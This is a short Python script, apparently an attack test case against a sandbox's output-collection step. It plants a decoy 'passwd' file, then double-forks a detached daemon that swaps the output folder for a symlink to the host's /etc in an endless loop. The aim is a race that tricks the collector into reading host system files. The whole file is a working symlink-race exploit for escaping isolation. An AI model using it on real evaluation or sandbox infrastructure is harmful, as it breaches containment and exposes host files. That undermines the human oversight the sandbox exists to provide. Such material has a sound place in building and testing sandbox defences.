"""Leave a daemon behind that swaps a folder for a link to the host, over and over, while outputs
are collected.
"""

import os


def main(target: dict) -> dict:
    os.mkdir("out/folder")
    open("out/folder/passwd", "w").write("mine")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                os.rename("out/folder", "out/kept")
                os.symlink("/etc", "out/folder")
                os.unlink("out/folder")
                os.rename("out/kept", "out/folder")
        os._exit(0)
    return {}
